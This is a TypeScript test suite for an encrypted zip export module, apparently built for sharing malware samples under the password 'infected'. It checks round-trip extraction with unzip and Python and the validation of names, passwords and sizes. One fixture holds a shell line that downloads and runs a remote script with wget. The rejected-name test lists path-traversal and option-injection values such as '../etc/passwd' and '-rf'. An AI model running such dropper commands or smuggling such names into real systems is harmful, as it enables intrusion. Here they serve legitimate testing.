// Encrypted zip export tests: the real Debian unzip and Python's zipfile open it with "infected" and
// give back the exact bytes, a wrong or missing password fails, names and sizes are validated.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { ZipExportError, encryptedZip } from './zip-export.ts';
import type { ZipExportEntry } from './zip-export.ts';

const run = promisify(execFile);
const sha256 = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');

// Reads the zip named in argv[1] with the password argv[2] ('' = none); prints name, sha256, flags, date.
const PYTHON_READER = `
import hashlib, json, sys, zipfile
pwd = sys.argv[2].encode() if sys.argv[2] else None
out = []
try:
    with zipfile.ZipFile(sys.argv[1]) as z:
        for info in z.infolist():
            data = z.read(info, pwd=pwd)
            out.append({"name": info.filename, "sha256": hashlib.sha256(data).hexdigest(), "encrypted": bool(info.flag_bits & 1), "date": list(info.date_time)})
except Exception as e:  # wrong password: RuntimeError, or (1 in 256) a CRC / inflate error
    print(type(e).__name__ + ": " + str(e))
    sys.exit(3)
print(json.dumps(out))
`;

async function withTempDir(body: (dir: string) => Promise<void>): Promise<void> {
  const dir = await mkdtemp(join(tmpdir(), 'hachi-zip-'));
  try {
    await body(dir);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

const sample = randomBytes(200_000);
const script = new TextEncoder().encode('#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins.sh; sh bins.sh\n'.repeat(50));
const when = new Date(2024, 4, 6, 7, 8, 10); // local time: zip headers store local DOS time
const entries: ZipExportEntry[] = [
  { name: sha256(sample), bytes: sample, modifiedAt: when },
  { name: `${sha256(script)}.bin`, bytes: script, modifiedAt: when },
  { name: sha256(new Uint8Array(0)), bytes: new Uint8Array(0), modifiedAt: when },
];

test('Debian unzip extracts the exact bytes with -P infected, and refuses a wrong password', () =>
  withTempDir(async (dir) => {
    const zipPath = join(dir, 'export.zip');
    await writeFile(zipPath, await encryptedZip(entries));
    const listing = await run('/usr/bin/unzip', ['-Z', '-v', zipPath]);
    assert.equal(listing.stdout.match(/file security status:\s+encrypted/g)?.length, 3);
    const out = join(dir, 'out');
    await run('/usr/bin/unzip', ['-P', 'infected', '-d', out, zipPath]);
    assert.deepEqual((await readdir(out)).sort(), entries.map((e) => e.name).sort());
    for (const entry of entries) assert.deepEqual(new Uint8Array(await readFile(join(out, entry.name))), new Uint8Array(entry.bytes));

    const wrong = join(dir, 'wrong');
    await assert.rejects(run('/usr/bin/unzip', ['-P', 'not-infected', '-d', wrong, zipPath]), (e: { code?: unknown }) => typeof e.code === 'number' && e.code !== 0);
    const leaked = await readdir(wrong).catch(() => []);
    for (const name of leaked) assert.notDeepEqual(new Uint8Array(await readFile(join(wrong, name))), new Uint8Array(sample));
  }));

test("Python's zipfile reads it with pwd=b'infected' (names, bytes, dates) and fails without it", () =>
  withTempDir(async (dir) => {
    const zipPath = join(dir, 'export.zip');
    await writeFile(zipPath, await encryptedZip(entries));
    const { stdout } = await run('/usr/bin/python3', ['-c', PYTHON_READER, zipPath, 'infected']);
    const read = JSON.parse(stdout) as { name: string; sha256: string; encrypted: boolean; date: number[] }[];
    assert.deepEqual(
      read.map((r) => [r.name, r.sha256]),
      entries.map((e) => [e.name, sha256(e.bytes)]),
    );
    assert.deepEqual(read.map((r) => r.encrypted), [true, true, true]);
    assert.deepEqual(read[0]!.date, [2024, 5, 6, 7, 8, 10]);
    await assert.rejects(run('/usr/bin/python3', ['-c', PYTHON_READER, zipPath, 'wrong']), (e: { code?: unknown }) => e.code === 3);
    await assert.rejects(run('/usr/bin/python3', ['-c', PYTHON_READER, zipPath, '']), (e: { code?: unknown; stdout?: unknown }) => e.code === 3 && /password required/.test(String(e.stdout)));
  }));

test('a custom password works and odd dates are clamped into the zip date range', () =>
  withTempDir(async (dir) => {
    const zipPath = join(dir, 'custom.zip');
    const old = { name: 'old.bin', bytes: script, modifiedAt: new Date(0) };
    await writeFile(zipPath, await encryptedZip([old], 'malware'));
    const { stdout } = await run('/usr/bin/python3', ['-c', PYTHON_READER, zipPath, 'malware']);
    const [entry] = JSON.parse(stdout) as { sha256: string; date: number[] }[];
    assert.equal(entry!.sha256, sha256(script));
    assert.ok(entry!.date[0]! >= 1980);
  }));

test('unsafe or duplicate names, empty input, bad passwords and oversize input are refused', async () => {
  const bytes = new Uint8Array([1, 2, 3]);
  const entry = (name: string): ZipExportEntry => ({ name, bytes, modifiedAt: when });
  const code = (c: string) => (e: unknown) => e instanceof ZipExportError && e.code === c;
  for (const name of ['../etc/passwd', 'a/b', 'a\\b', '', '.hidden', 'x..y', '..', '-rf', 'a\0b', 'c:evil', 'é.bin', 'a b', 'x'.repeat(201)]) {
    await assert.rejects(encryptedZip([entry(name)]), code('bad-name'), name);
  }
  await assert.rejects(encryptedZip([entry('abc'), entry('ABC')]), code('duplicate-name'));
  await assert.rejects(encryptedZip([]), code('empty'));
  await assert.rejects(encryptedZip([entry('a')], ''), code('bad-password'));
  await assert.rejects(encryptedZip([entry('a')], 'infiziert\u00e9'), code('bad-password'));
  await assert.rejects(encryptedZip([entry('a'), entry('b')], 'infected', { maxTotalBytes: 5 }), code('too-large'));
  await assert.rejects(encryptedZip([entry('a'), entry('b')], 'infected', { maxEntries: 1 }), code('too-many'));
  await assert.rejects(encryptedZip([{ name: 'a', bytes, modifiedAt: new Date(Number.NaN) }]), code('bad-date'));
  assert.ok((await encryptedZip([entry('a'), entry('b')], 'infected', { maxTotalBytes: 6 })).byteLength > 0);
});
